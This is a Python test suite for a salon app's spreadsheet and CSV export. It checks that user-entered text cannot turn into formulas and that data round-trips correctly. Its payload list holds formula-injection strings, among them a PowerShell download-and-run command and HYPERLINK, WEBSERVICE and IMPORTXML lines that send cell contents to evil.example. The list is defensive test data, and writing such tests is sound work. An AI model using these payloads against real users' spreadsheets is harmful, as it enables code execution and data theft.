"""Nothing that somebody typed becomes a formula, and everything comes back as it went out (quality.md §3)."""

import csv
import errno
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator, Sequence
from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from salon.desk.client_columns import COLUMNS
from salon.desk.workbook import Cell, Column, Kind, Table, write_csv, write_xlsx

PAYLOADS = [
    "=1+1",
    "=1+1|cmd",
    '=cmd|" /C calc"!A0',
    "=cmd|'/C powershell IEX(wget evil.example/a.exe)'!A1",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=IMAGE("http://evil.example/x.png")',
    '=DDE("cmd";"/C calc";"x")',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=A1",
    "=SUM(A1:A9)",
    "==1+1",
    "= 1+1",
    "=",
    '="0171 5550318"',
    "=\t1+1",
    "+1+1",
    "+49 171 5550318",
    "+cmd|' /C calc'!A0",
    "+A1",
    "+",
    "++1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-A1",
    "-",
    "--1",
    "-10 %",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "@A1",
    "@",
    "@instagram",
    "\t=1+1",
    "\tAnna",
    "\r=1+1",
    "\rAnna",
    "\n=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "'",
    "'Anna",
    ";=1+1",
    '";=1+1;"',
    '"\n=1+1',
    "Anna;=1+1",
    "{=1+1}",
    "%0A=1+1",
]
_FIRST = set("=+-@\t\r\n＝＋－＠")
_MARKED = _FIRST | {"'"}

TEXT = Column("Text", Kind.TEXT, 10)
Writer = Callable[[Table, Path], None]


def _texts(texts: Sequence[str]) -> Table:
    return Table("Kunden", [TEXT], [(text,) for text in texts])


def _read_xlsx(path: Path) -> list[list[object]]:
    return [list(row) for row in CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python()]


def _read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, delimiter=";"))


def _unmarked(cell: str) -> str:
    """Take the apostrophe away, as the import of our CSV does."""
    return cell[1:] if cell[:1] == "'" and cell[1:2] in _MARKED else cell


def _formulas(path: Path) -> bool:
    with zipfile.ZipFile(path) as archive:
        return any(b"<f" in archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/"))


def test_there_are_fifty_payloads() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 50


def test_no_payload_is_a_formula_in_a_workbook(tmp_path: Path) -> None:
    write_xlsx(_texts(PAYLOADS), tmp_path / "file.xlsx")
    assert not _formulas(tmp_path / "file.xlsx")
    read = _read_xlsx(tmp_path / "file.xlsx")
    assert [row[0] for row in read] == ["Text", *PAYLOADS]


def test_no_payload_is_a_formula_in_csv(tmp_path: Path) -> None:
    write_csv(_texts(PAYLOADS), tmp_path / "file.csv")
    cells = [row[0] for row in _read_csv(tmp_path / "file.csv")[1:]]
    assert [cell for cell in cells if cell[:1] in _FIRST] == []
    assert [_unmarked(cell) for cell in cells] == PAYLOADS


def test_a_phone_column_guards_all_that_is_no_phone(tmp_path: Path) -> None:
    phone = Column("Mobil", Kind.PHONE, 17)
    write_csv(Table("Kunden", [phone], [(text,) for text in PAYLOADS]), tmp_path / "file.csv")
    cells = [row[0] for row in _read_csv(tmp_path / "file.csv")[1:]]
    assert [cell for cell in cells if cell[:1] in _FIRST] == []
    assert [_unmarked(cell) for cell in cells] == PAYLOADS


@settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(texts=st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\x00"), min_size=1), min_size=1))
def test_any_text_comes_back_from_csv(tmp_path: Path, texts: list[str]) -> None:
    write_csv(_texts(texts), tmp_path / "file.csv")
    cells = [row[0] for row in _read_csv(tmp_path / "file.csv")[1:]]
    assert not any(cell[:1] in _FIRST for cell in cells)
    assert [_unmarked(cell) for cell in cells] == texts


ROW: tuple[Cell, ...] = (
    1042,
    "Sarah",
    "Müller",
    "weiblich",
    date(1990, 11, 21),
    "sarah@example.com",
    "+491715550318",
    "+493090182",
    "Kastanienallee 12",
    "01067",
    "Dresden",
    "Stammkunden; VIP",
    "0004711",
    350,
    "Wiederkehrend",
    "Besuch in den letzten 365 Tagen",
    date(2024, 1, 2),
    date(2024, 2, 3),
    date(2026, 11, 1),
    None,
    12,
    0,
    0,
    0.0,
    1234.5,
    "ja",
    date(2026, 10, 31),
    "Import",
    "Erste Zeile\nZweite; „Zeile“",
)


def test_a_workbook_keeps_types(tmp_path: Path) -> None:
    write_xlsx(Table("Kunden", COLUMNS, [ROW]), tmp_path / "file.xlsx")
    heads, row = _read_xlsx(tmp_path / "file.xlsx")
    assert len(heads) == len(set(map(str, heads))) == 29
    assert row == ["" if cell is None else cell for cell in ROW]
    assert CalamineWorkbook.from_path(tmp_path / "file.xlsx").sheet_names == ["Kunden"]
    with zipfile.ZipFile(tmp_path / "file.xlsx") as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        styles = archive.read("xl/styles.xml").decode()
    assert 'ySplit="1"' in sheet
    assert "<autoFilter" in sheet
    assert 'formatCode="dd.mm.yyyy"' in styles
    assert 'numberStoredAsText="1"' in sheet


def test_csv_is_as_german_spreadsheets_open_it(tmp_path: Path) -> None:
    write_csv(Table("Kunden", COLUMNS, [ROW]), tmp_path / "file.csv")
    raw = (tmp_path / "file.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.endswith(b'"\r\n')
    _heads, row = _read_csv(tmp_path / "file.csv")
    assert row[:7] == ["1042", "Sarah", "Müller", "weiblich", "21.11.1990", "sarah@example.com", "0049 1715550318"]
    assert row[7] == "0049 3090182"
    assert row[16:29] == [
        *("02.01.2024", "03.02.2024", "01.11.2026", "", "12", "0", "0", "0,00", "1234,50", "ja", "31.10.2026"),
        *("Import", "Erste Zeile\nZweite; „Zeile“"),
    ]


@pytest.mark.parametrize(("write", "read"), [(write_xlsx, _read_xlsx), (write_csv, _read_csv)])
def test_a_file_of_nobody_has_its_headings(
    tmp_path: Path, write: Writer, read: Callable[[Path], list[list[object]]]
) -> None:
    write(Table("Kunden", COLUMNS, []), tmp_path / "file.xlsx")
    assert read(tmp_path / "file.xlsx") == [[str(column.heading) for column in COLUMNS]]


@pytest.mark.parametrize("write", [write_xlsx, write_csv])
def test_what_the_rows_raise_goes_on(tmp_path: Path, write: Writer) -> None:
    def rows() -> Iterator[tuple[Cell, ...]]:
        yield ROW
        raise LookupError("Somebody else has the work.")

    with pytest.raises(LookupError):
        write(Table("Kunden", COLUMNS, rows()), tmp_path / "file")


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no full device here")
@pytest.mark.parametrize("write", [write_xlsx, write_csv])
def test_a_full_disk_is_told(write: Writer) -> None:
    with pytest.raises(OSError, match=r".") as failure:
        write(Table("Kunden", COLUMNS, [ROW] * 5000), Path("/dev/full"))
    assert failure.value.errno == errno.ENOSPC


@pytest.mark.parametrize("write", [write_xlsx, write_csv])
def test_memory_stays_flat(tmp_path: Path, write: Writer) -> None:
    """Of what Python holds; the writer's own memory is measured by `make bench`."""

    def peak(count: int) -> int:
        tracemalloc.start()
        write(Table("Kunden", COLUMNS, ((number, *ROW[1:]) for number in range(count))), tmp_path / "file")
        seen = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return seen

    peak(10)
    assert peak(8000) < peak(2000) + 64 * 1024
    assert (tmp_path / "file").stat().st_size > 100_000
